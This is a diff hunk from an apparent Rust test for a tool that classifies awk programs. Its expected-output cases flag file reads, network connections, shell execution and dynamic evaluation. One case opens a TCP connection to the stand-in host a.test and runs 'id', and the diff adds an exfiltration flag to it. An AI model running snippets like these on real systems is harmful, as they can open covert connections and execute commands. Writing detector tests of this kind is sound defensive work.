@@ -44,7 +44,7 @@ fn awk_that_does_more_says_what() {
             ("BEGIN{while ((getline l < \"/etc/x\") > 0) print l}", "read /etc/x"),
             (
                 "BEGIN{s=\"/inet/tcp/0/a.test/9\"; print \"x\" |& s; \"id\" | getline}",
-                "connect a.test; shell id; !Backdoor",
+                "connect a.test; !Exfiltrates; shell id; !Backdoor",
             ),
             ("@load \"filefuncs\"", "!Spawns"),
             ("BEGIN{f=\"x\"; @f()}", "!Evaluates"),
